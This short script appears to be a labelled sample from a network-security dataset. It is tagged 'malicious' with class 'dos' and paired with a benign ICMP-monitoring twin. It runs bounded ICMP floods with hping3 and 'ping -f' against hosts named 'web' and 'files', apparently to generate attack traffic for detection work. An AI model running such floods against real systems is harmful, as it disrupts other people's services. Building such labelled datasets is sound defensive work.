# label: malicious
# class: dos
# twin: icmp_monitor
# tools: hping3 iputils-ping
# about: Bounded floods of echo requests.
# command: hping3 --icmp or ping -f
# params: small net=lan RUN="hping3 -q --icmp -d 56 -i u3000 -c 600 web"
# params: large net=wan RUN="ping -q -f -c 350 -s 700 files" as=gz
$RUN
true
